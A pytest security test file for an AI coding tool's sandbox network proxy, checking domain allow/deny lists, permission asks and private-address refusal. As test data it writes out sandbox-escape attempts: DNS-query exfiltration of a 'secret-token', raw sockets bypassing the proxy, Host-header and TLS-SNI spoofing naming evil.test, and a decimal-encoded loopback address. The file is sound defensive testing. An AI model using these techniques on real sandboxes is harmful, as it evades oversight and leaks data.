"""Network by domain (issue 27): ``sandbox.network: {allow, deny}`` against the real kernel,
the real supervisor and the sidecar's proxy, with curl, Python's urllib, pip and raw
sockets inside the sandbox.

There is no internet here, and loopback is a private range. So the far ends are servers
on this machine's loopback (``network_peers``), named with ``.test`` names that
``TOOLHOST_NETWORK_HOSTS`` (read by the proxy in the sidecar only) maps to 127.0.0.1 or
::1. A test that wants a server reached lists its address and port literally, as a user
reaching a private address must; a test about private addresses leaves it out.

Every attack is first shown working with the defence off (the server gets the request,
the sink the bytes): with ``sandbox.network: allow``, or with the one check the test is
about switched off in the proxy. Then with the defence on, nothing arrives.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import socket
import struct
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.security.network_peers import WHEEL_NAME, Sink, Web, self_signed
from tools.bash.sandbox import landlock, probe
from tools.builtin import bash as bash_module
from tools.builtin.lazy import builtin_tools
from tools.config.effective import Config, NetworkLists, SandboxSettings
from tools.config.files import load_config
from tools.editor import EditorBridge
from tools.host import ToolHost
from tools.network import gate as gate_module
from tools.network import http as http_module
from tools.network.addresses import HOSTS_VAR, resolve
from tools.permission.asks import PermissionReply, PermissionRequest, Scope
from tools.result import ToolResult

pytestmark = [
    pytest.mark.skipif(
        landlock.abi_version() < landlock.MIN_ABI, reason="this kernel has no Landlock ABI 3+"
    ),
    pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed"),
]

NAMES = {
    "pypi.test": "127.0.0.1",
    "files.test": "127.0.0.1",
    "files.corp.test": "127.0.0.1",
    "other.corp.test": "127.0.0.1",
    "secret.corp.test": "127.0.0.1",
    "rebind.test": "127.0.0.1",
    "mapped.test": "::ffff:127.0.0.1",
    "v6.test": "::1",
}


class Answers(EditorBridge):
    """Answers every ask alike (``hold``: never), and records them."""

    def __init__(
        self, reply: str = "reject", scope: Scope = "sidecar", *, hold: bool = False
    ) -> None:
        super().__init__()
        self.reply, self.scope, self.hold = reply, scope, hold
        self.asks: list[PermissionRequest] = []

    async def ask_permission(self, request: PermissionRequest) -> PermissionReply:
        self.asks.append(request)
        if self.hold:
            await asyncio.Event().wait()
        return PermissionReply(self.reply, scope=self.scope)  # type: ignore[arg-type]

    def network_asks(self) -> list[PermissionRequest]:
        return [a for a in self.asks if a.permission == "network"]


@pytest.fixture(scope="module")
def web() -> Iterator[Web]:
    with Web().running() as server:
        yield server


@pytest.fixture(scope="module")
def web6() -> Iterator[Web]:
    try:
        with Web(host="::1").running() as server:
            yield server
    except OSError:
        pytest.skip("this machine has no IPv6 loopback")


@pytest.fixture(autouse=True)
def _names(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(HOSTS_VAR, ",".join(f"{n}={a}" for n, a in NAMES.items()))


def lists(*allow: str, deny: tuple[str, ...] = ()) -> SandboxSettings:
    return SandboxSettings(network=NetworkLists(tuple(allow), deny))


def make_host(worktree: Path, sandbox: SandboxSettings | None = None) -> ToolHost:
    config = Config(sandbox=sandbox or SandboxSettings())
    return ToolHost(worktree, tools=[*builtin_tools(), bash_module.tool], config=config)


async def bash(host: ToolHost, command: str, editor: EditorBridge | None = None) -> ToolResult:
    return await host.execute(
        "bash",
        {"command": command, "description": "Reaches the network", "timeout": 60_000},
        editor=editor or Answers(),
        session_id="ses_network",
    )


def network(result: ToolResult) -> dict[str, Any]:
    found: dict[str, Any] = result.metadata["sandbox"]["network"]
    return found


def curl(url: str, *flags: str) -> str:
    """A curl of ``url`` and a newline after it: ``curl(a) + curl(b)`` runs both."""
    return " ".join(["curl -sS --max-time 10", *flags, f"'{url}';", "echo;"]) + " "


# ---------------------------------------------------------------- what is allowed works


async def test_an_allowed_domain_is_reached_through_the_proxy(
    worktree: Path, web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NO_PROXY", "pypi.test")  # inherited, it would send curl around the proxy
    host = make_host(worktree, lists("pypi.test", f"127.0.0.1:{web.port}"))
    editor = Answers("reject")
    base = f"http://pypi.test:{web.port}/allowed"
    urllib = (
        'python3 -c "import sys, urllib.request as u; '
        f'print(u.urlopen(sys.argv[1]).read().decode())" {base}/urllib'
    )
    command = curl(f"{base}/curl") + curl(f"{base}/tunnel", "--proxytunnel") + urllib + "; env"
    result = await bash(host, command, editor)
    assert {"/allowed/curl", "/allowed/tunnel", "/allowed/urllib"} <= set(web.paths())
    assert f"hello from pypi.test:{web.port} /allowed/urllib" in result.output
    assert editor.asks == []
    assert network(result)["reached"] == [f"pypi.test:{web.port}"]
    assert network(result)["refused"] == []
    assert network(result)["allow"] == ["pypi.test", f"127.0.0.1:{web.port}"]
    # What a client reads to find the proxy; an inherited NO_PROXY is gone.
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
        assert f"{name}=http://127.0.0.1:" in result.output
    assert "ALL_PROXY=socks5h://127.0.0.1:" in result.output
    assert "NO_PROXY=" not in result.output


@pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl is not installed")
async def test_https_goes_through_a_connect_tunnel(
    worktree: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    pem = self_signed(tmp_path_factory.mktemp("tls"), "pypi.test")
    with Web(tls=pem).running() as web:
        host = make_host(worktree, lists("pypi.test", f"127.0.0.1:{web.port}"))
        result = await bash(host, curl(f"https://pypi.test:{web.port}/tls", "--cacert", str(pem)))
    assert f"hello from pypi.test:{web.port} /tls" in result.output
    assert network(result)["reached"] == [f"pypi.test:{web.port}"]


async def test_pip_downloads_from_an_allowed_index(worktree: Path, web: Web) -> None:
    host = make_host(worktree, lists("pypi.test", f"127.0.0.1:{web.port}"))
    command = (
        "python3 -m pip download --no-deps --no-cache-dir --disable-pip-version-check "
        f"--trusted-host pypi.test --index-url http://pypi.test:{web.port}/simple/ -d dl tiny"
    )
    result = await bash(host, command)
    assert (worktree / "dl" / WHEEL_NAME).is_file(), result.output
    assert f"/files/{WHEEL_NAME}" in web.paths()


# ---------------------------------------------------------------- asks


async def test_a_domain_no_rule_covers_asks_and_a_reject_refuses_it(
    worktree: Path, web: Web
) -> None:
    url = f"http://files.corp.test:{web.port}/unlisted"
    await bash(make_host(worktree), curl(f"http://127.0.0.1:{web.port}/unlisted/off"))
    assert "/unlisted/off" in web.paths(), "the attack does not work"
    host = make_host(worktree, lists(f"127.0.0.1:{web.port}"))  # the name is not listed
    editor = Answers("reject")
    command = curl(url + "/on") + curl(url + "/again", "--proxytunnel")
    result = await bash(host, command, editor)
    assert "/unlisted/on" not in web.paths() and "/unlisted/again" not in web.paths()
    (ask,) = editor.asks  # one ask, however many connections wait on it
    assert ask.permission == "network"
    assert ask.patterns == ["files.corp.test"]
    assert (
        ask.title == f"Allow network access to files.corp.test (port {web.port}) for this command?"
    )
    assert ask.metadata["command"] == command
    assert [(o.patterns, o.label) for o in ask.options()] == [
        (("files.corp.test",), "network access to files.corp.test"),
        (("*.corp.test",), "network access to every name below corp.test"),
    ]
    assert network(result)["refused"] == [
        {"host": "files.corp.test", "port": web.port, "reason": "the user refused it"}
    ]
    assert "toolhost: network access to files.corp.test" in result.output  # the 403's body
    assert f"Network access to files.corp.test:{web.port} was refused" in result.output

    result = await bash(host, curl(url + "/once"), Answers("once"))
    assert "/unlisted/once" in web.paths()
    assert network(result)["reached"] == [f"files.corp.test:{web.port}"]


async def test_always_keeps_a_network_rule_in_the_project_config(worktree: Path, web: Web) -> None:
    host = make_host(worktree, lists(f"127.0.0.1:{web.port}"))
    await bash(host, curl(f"http://files.test:{web.port}/always/1"), Answers("always", "project"))
    assert "/always/1" in web.paths()
    saved = json.loads((worktree / "opencode.json").read_text())
    assert saved["permission"]["network"] == {"files.test": "allow"}

    again = Answers("reject")
    await bash(host, curl(f"http://files.test:{web.port}/always/2"), again)
    assert "/always/2" in web.paths() and again.asks == []
    # A sidecar started later reads it from the file.
    loaded = load_config(worktree).config
    later = ToolHost(
        worktree,
        tools=[*builtin_tools(), bash_module.tool],
        config=Config(rules=loaded.rules, sandbox=lists(f"127.0.0.1:{web.port}")),
    )
    await bash(later, curl(f"http://files.test:{web.port}/always/3"), again)
    assert "/always/3" in web.paths() and again.asks == []


async def test_an_ask_nobody_answers_or_no_client_can_refuses_and_says_so(
    worktree: Path, web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(gate_module, "ASK_SECONDS", 0.5)
    host = make_host(worktree, lists(f"127.0.0.1:{web.port}"))
    result = await bash(host, curl(f"http://files.test:{web.port}/silent"), Answers(hold=True))
    assert "/silent" not in web.paths()
    (refused,) = network(result)["refused"]
    assert refused["reason"] == "nobody answered the ask within 0.5 s"
    assert "nobody answered the ask within 0.5 s" in result.output

    result = await bash(host, curl(f"http://files.test:{web.port}/headless"), EditorBridge())
    assert "/headless" not in web.paths()
    (refused,) = network(result)["refused"]
    assert refused["reason"] == "it is not in sandbox.network.allow, and no one could be asked"


# ---------------------------------------------------------------- deny wins


async def test_deny_wins_over_allow(worktree: Path, web: Web) -> None:
    allowed = ("*.corp.test", f"127.0.0.1:{web.port}")
    command = curl(f"http://secret.corp.test:{web.port}/deny/secret")
    await bash(make_host(worktree, lists(*allowed)), command)
    assert "/deny/secret" in web.paths(), "the attack does not work"
    web.hits.clear()

    host = make_host(worktree, lists(*allowed, deny=("secret.corp.test",)))
    editor = Answers("once")  # an ask answered "once" would let it through
    other = curl(f"http://other.corp.test:{web.port}/deny/other")
    result = await bash(host, command + other, editor)
    assert "/deny/secret" not in web.paths()
    assert "/deny/other" in web.paths()
    assert editor.asks == []
    (refused,) = network(result)["refused"]
    assert refused["reason"] == "sandbox.network.deny lists 'secret.corp.test'"


# ---------------------------------------------------------------- no way around the proxy

DIRECT = (
    'python3 -c "import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2])),'
    " 3); s.sendall(b'direct-marker')\" {host} {port}"
)
DNS_QUERY = (
    'python3 -c "import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
    "s.sendto(bytes.fromhex(sys.argv[1]), ('127.0.0.1', int(sys.argv[2])))\" {query} {port}; "
    "getent hosts pypi.org; echo getent=$?"
)


def _query(name: str) -> str:
    """A DNS query for ``name`` (type A), as hex."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return (struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0\1\0\1").hex()


def _outside_address() -> str | None:
    """This machine's address on a non-loopback interface, if it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe_socket:
        try:
            probe_socket.connect(("192.0.2.1", 9))
            address = str(probe_socket.getsockname()[0])
        except OSError:
            return None
    return None if address.startswith("127.") else address


async def test_a_program_that_ignores_the_proxy_gets_no_network(
    worktree: Path, web: Web, web6: Web
) -> None:
    with Sink(host="0.0.0.0").running() as sink:
        command = (
            curl(f"http://127.0.0.1:{web.port}/direct/curl", "--noproxy '*'")
            + curl(f"http://[::1]:{web6.port}/direct/v6", "--noproxy '*' -g")
            + DIRECT.format(host="127.0.0.1", port=sink.port)
        )
        outside = _outside_address()
        if outside is not None:  # this machine's own address, not its loopback
            command += " ; " + DIRECT.format(host=outside, port=sink.port)
        await bash(make_host(worktree), command)
        await asyncio.sleep(0.3)
        assert "/direct/curl" in web.paths() and "/direct/v6" in web6.paths()
        expected = 1 if outside is None else 2  # by loopback, and by this machine's address
        assert sink.received.count(b"direct-marker") == expected, "the attack does not work"
        sink.received.clear()
        web.hits.clear()
        web6.hits.clear()
        # Even with every destination allowed through the proxy.
        result = await bash(make_host(worktree, lists("*")), command)
        await asyncio.sleep(0.3)
        assert sink.received == b""
    assert web.paths() == [] and web6.paths() == []
    assert "Commands reach the network only through toolhost's proxy" in result.output


async def test_name_lookups_from_inside_reach_no_resolver(worktree: Path) -> None:
    with Sink(udp=True).running() as resolver:
        command = DNS_QUERY.format(query=_query("secret-token.exfil.test"), port=resolver.port)
        await bash(make_host(worktree), command)
        await asyncio.sleep(0.3)
        assert b"secret-token" in resolver.received, "the attack does not work"
        resolver.received.clear()
        result = await bash(make_host(worktree, lists("*")), command)
        await asyncio.sleep(0.3)
        assert resolver.received == b""
    assert "getent=2" in result.output  # the system resolver finds nothing either


async def test_the_proxy_looks_up_no_name_it_refuses(
    worktree: Path, web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked_up: list[str] = []

    async def recording(name: str, port: int) -> Any:
        looked_up.append(name)
        return await resolve(name, port)

    monkeypatch.setattr(gate_module, "resolve", recording)
    host = make_host(worktree, lists("pypi.test", f"127.0.0.1:{web.port}", deny=("*.exfil.test",)))
    command = "".join(
        curl(f"http://{name}:{web.port}/lookup")
        for name in ("secret-1.exfil.test", "secret-2.files.test", "pypi.test")
    )
    result = await bash(host, command, Answers("reject"))
    assert looked_up == ["pypi.test"], result.output  # the refused names never left


# ---------------------------------------------------------------- private addresses


async def test_a_name_that_resolves_to_a_private_address_is_refused(
    worktree: Path, web: Web
) -> None:
    command = curl(f"http://rebind.test:{web.port}/rebind")
    await bash(make_host(worktree, lists("rebind.test", f"127.0.0.1:{web.port}")), command)
    assert "/rebind" in web.paths(), "the attack does not work"
    web.hits.clear()

    editor = Answers("once")
    mapped = curl(f"http://mapped.test:{web.port}/rebind/mapped")
    spelled = curl(f"http://2130706433:{web.port}/rebind/decimal")  # 127.0.0.1 in curl's reading
    result = await bash(
        make_host(worktree, lists("rebind.test", "mapped.test", "*")),
        command + mapped + spelled,
        editor,
    )
    assert web.paths() == []
    assert editor.asks == []  # nothing a person could answer would make it right
    reasons = {r["host"]: r["reason"] for r in network(result)["refused"]}
    assert (
        "resolves to a private, loopback or link-local address (127.0.0.1)"
        in reasons["rebind.test"]
    )
    assert "(127.0.0.1)" in reasons["mapped.test"]


async def test_a_raw_address_is_decided_as_an_address(worktree: Path) -> None:
    outside = _outside_address()
    if outside is None:
        pytest.skip("this machine has no address but loopback")
    with Web(host=outside).running() as far:
        host = make_host(worktree, lists("pypi.test", "*.test"))  # names only
        command = curl(f"http://{outside}:{far.port}/raw", "-x $HTTP_PROXY --proxytunnel")
        rejecting = Answers("reject")
        result = await bash(host, command, rejecting)
        assert "/raw" not in far.paths()
        (ask,) = rejecting.network_asks()
        title = f"Allow network access to {outside} (port {far.port}) for this command?"
        assert ask.title == title
        assert [o.patterns for o in ask.options()] == [(outside,)]
        assert network(result)["refused"][0]["host"] == outside
        # A person allowing that very address (a private one here) is listing it literally.
        await bash(host, command, Answers("once"))
        assert "/raw" in far.paths()


async def test_loopback_is_never_asked_about_and_the_commands_own_is_reached_directly(
    worktree: Path, web: Web
) -> None:
    own = (
        "python3 -m http.server 0 --bind 127.0.0.1 > server.log 2>&1 & "
        "for i in $(seq 50); do port=$(grep -o 'port [0-9]*' server.log | cut -d' ' -f2); "
        '[ -n "$port" ] && break; sleep 0.1; done; '
        "curl -sS --max-time 10 --noproxy '*' -o /dev/null -w 'own %{http_code}\\n' "
        '"http://localhost:$port/"; '
    )
    editor = Answers("once")  # a yes would open this machine's port, not the command's
    command = own + curl(f"http://localhost:{web.port}/loopback/asked")
    result = await bash(make_host(worktree, lists("*")), command, editor)
    assert "own 200" in result.output, result.output
    assert "/loopback/asked" not in web.paths()
    assert editor.asks == []
    reason = network(result)["refused"][0]["reason"]
    assert reason.startswith("that is the loopback of the machine outside the sandbox")
    assert f"(127.0.0.1:{web.port})" in reason
    # Listed literally, this machine's server is reached, by either name, without an ask.
    host = make_host(worktree, lists(f"127.0.0.1:{web.port}"))
    command = curl(f"http://localhost:{web.port}/loopback/listed")
    result = await bash(host, command, editor)
    assert "/loopback/listed" in web.paths(), result.output
    assert editor.asks == []


async def test_ipv6_is_held_to_the_same_lists(worktree: Path, web6: Web) -> None:
    url = f"http://v6.test:{web6.port}/v6"
    result = await bash(make_host(worktree, lists("v6.test", f"[::1]:{web6.port}")), curl(url))
    assert "/v6" in web6.paths(), result.output
    assert network(result)["reached"] == [f"v6.test:{web6.port}"]
    web6.hits.clear()
    result = await bash(make_host(worktree, lists("v6.test")), curl(url))
    assert web6.paths() == []
    assert "(::1)" in network(result)["refused"][0]["reason"]


# ---------------------------------------------------------------- SOCKS5


async def test_socks5_is_held_to_the_same_lists(worktree: Path, web: Web) -> None:
    host = make_host(worktree, lists("pypi.test", f"127.0.0.1:{web.port}"))
    socks = "env -u HTTP_PROXY -u http_proxy"  # curl then takes ALL_PROXY: socks5h://
    editor = Answers("reject")
    command = (
        f"{socks} {curl(f'http://pypi.test:{web.port}/socks/name')}"
        f"{socks} {curl(f'http://files.test:{web.port}/socks/unlisted')}"
        # socks5:// (the client resolves): an address, decided as one.
        + curl(f"http://127.0.0.2:{web.port}/socks/address", '--socks5 "${ALL_PROXY#*//}"')
    )
    result = await bash(host, command, editor)
    assert "/socks/name" in web.paths()
    assert "/socks/unlisted" not in web.paths() and "/socks/address" not in web.paths()
    assert [a.patterns for a in editor.network_asks()] == [["files.test"]]
    refused = {r["host"]: r["reason"] for r in network(result)["refused"]}
    assert refused["127.0.0.2"].startswith("that is the loopback of the machine outside")
    assert network(result)["reached"] == [f"pypi.test:{web.port}"]


# ---------------------------------------------------------------- one host, said once


async def test_a_host_header_naming_another_host_is_refused(
    worktree: Path, web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    host = make_host(worktree, lists("pypi.test", f"127.0.0.1:{web.port}"))
    command = curl(f"http://pypi.test:{web.port}/fronted", f"-H 'Host: evil.test:{web.port}'")
    with monkeypatch.context() as patch:
        patch.setattr(http_module, "_same_host", lambda *args, **kwargs: None)
        await bash(host, command)
    fronted = [h.host for h in web.hits if h.path == "/fronted"]
    assert fronted == [f"evil.test:{web.port}"], "the attack does not work"
    web.hits.clear()
    connect = (
        "python3 -c \"import socket, os, sys; p = os.environ['HTTP_PROXY'].rsplit(':', 1)[1]; "
        "s = socket.create_connection(('127.0.0.1', int(p))); "
        "s.sendall(('CONNECT pypi.test:%s HTTP/1.1\\r\\nHost: evil.test:%s\\r\\n\\r\\n' "
        '% (sys.argv[1], sys.argv[1])).encode()); print(s.recv(200).decode())" '
        f"{web.port}"
    )
    result = await bash(host, command + connect)
    assert web.paths() == []
    assert result.output.count("names another host than the request's target") >= 2
    assert "HTTP/1.1 400 Bad Request" in result.output


TLS_THROUGH_TUNNEL = (
    'python3 -c "import os, socket, ssl, sys\n'
    "p = int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])\n"
    "s = socket.create_connection(('127.0.0.1', p), 1)\n"
    "s.sendall(b'CONNECT pypi.test:%s HTTP/1.1\\r\\nHost: pypi.test:%s\\r\\n\\r\\n' % "
    "(sys.argv[1].encode(), sys.argv[1].encode()))\n"
    "print(s.recv(100))\n"
    "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
    "try: c.wrap_socket(s, server_hostname='evil.test')\n"
    'except Exception as e: print(type(e).__name__)" {port}'
)


async def test_a_tls_server_name_other_than_the_tunnels_host_is_refused(
    worktree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with Sink().running() as far:
        host = make_host(worktree, lists("pypi.test", f"127.0.0.1:{far.port}"))
        command = TLS_THROUGH_TUNNEL.format(port=far.port)
        with monkeypatch.context() as patch:
            patch.setattr(http_module, "client_hello_name", lambda data: None)
            await bash(host, command)
            await asyncio.sleep(0.3)
        assert b"evil.test" in far.received, "the attack does not work"
        far.received.clear()
        result = await bash(host, command)
        await asyncio.sleep(0.3)
        assert far.received == b""
    (refused,) = network(result)["refused"]
    assert refused["reason"] == (
        "the TLS server name (evil.test) is not the host the tunnel was opened to (pypi.test)"
    )


# ---------------------------------------------------------------- webfetch


async def webfetch(host: ToolHost, url: str, editor: EditorBridge) -> ToolResult:
    return await host.execute("webfetch", {"url": url}, editor=editor, session_id="ses_network")


async def test_webfetch_follows_the_same_lists(worktree: Path, web: Web) -> None:
    await webfetch(make_host(worktree), f"http://127.0.0.1:{web.port}/wf/off", Answers())
    assert "/wf/off" in web.paths(), "the attack does not work"
    host = make_host(worktree, lists("pypi.test", f"127.0.0.1:{web.port}", deny=("bad.test",)))
    editor = Answers("reject")
    result = await webfetch(host, f"http://files.test:{web.port}/wf/unlisted", editor)
    assert result.metadata["error"] == "permission_rejected"
    assert f"Network access to files.test:{web.port} was refused: the user refused it" in (
        result.output
    )
    (ask,) = editor.network_asks()
    assert (
        ask.title == f"Allow network access to files.test (port {web.port}) for this webfetch call?"
    )
    result = await webfetch(host, f"http://bad.test:{web.port}/wf/denied", editor)
    assert result.metadata["error"] == "permission_denied"
    assert len(editor.network_asks()) == 1  # no ask for a denied host
    result = await webfetch(host, f"http://pypi.test:{web.port}/wf/allowed", editor)
    assert f"hello from pypi.test:{web.port} /wf/allowed" in result.output
    assert "/wf/unlisted" not in web.paths() and "/wf/denied" not in web.paths()


# ---------------------------------------------------------------- machines without it


async def test_without_a_network_namespace_the_lists_give_no_network(
    worktree: Path, web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(probe.SIMULATE_VAR, "no-userns")
    settings = lists("pypi.test", f"127.0.0.1:{web.port}")
    result = await bash(make_host(worktree, settings), curl(f"http://pypi.test:{web.port}/nons"))
    assert "/nons" not in web.paths()
    sandbox = result.metadata["sandbox"]
    assert sandbox["network"] == "deny"  # what held: no network at all
    assert "domain lists cannot be held on this machine" in result.output
    assert any(
        m.startswith("network by domain: it needs a network namespace") for m in sandbox["missing"]
    )
    required = SandboxSettings(mode="required", network=settings.network)
    result = await bash(make_host(worktree, required), "touch made")
    assert result.metadata["error"] == "permission_denied"
    assert not (worktree / "made").exists()


async def test_a_command_cannot_flood_the_editor_with_asks(
    worktree: Path, web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(gate_module, "MAX_ASKS", 2)
    monkeypatch.setenv(HOSTS_VAR, ",".join(f"h{n}.test=127.0.0.1" for n in range(4)))
    host = make_host(worktree, lists(f"127.0.0.1:{web.port}"))
    editor = Answers("reject")
    command = "".join(curl(f"http://h{n}.test:{web.port}/flood") for n in range(4))
    result = await bash(host, command, editor)
    assert [a.patterns for a in editor.network_asks()] == [["h0.test"], ["h1.test"]]
    reasons = [r["reason"] for r in network(result)["refused"]]
    assert reasons[2:] == ["this command already asked about 2 hosts; no more are asked"] * 2


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")
async def test_under_bubblewrap_the_proxy_is_the_only_way_out_too(
    worktree: Path, web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(probe.SIMULATE_VAR, "no-landlock")
    host = make_host(worktree, lists("pypi.test", f"127.0.0.1:{web.port}"))
    command = curl(f"http://pypi.test:{web.port}/bwrap/proxy") + curl(
        f"http://127.0.0.1:{web.port}/bwrap/direct", "--noproxy '*'"
    )
    result = await bash(host, command)
    assert result.metadata["sandbox"]["engine"] == "bwrap", result.metadata
    assert "/bwrap/proxy" in web.paths()
    assert "/bwrap/direct" not in web.paths()
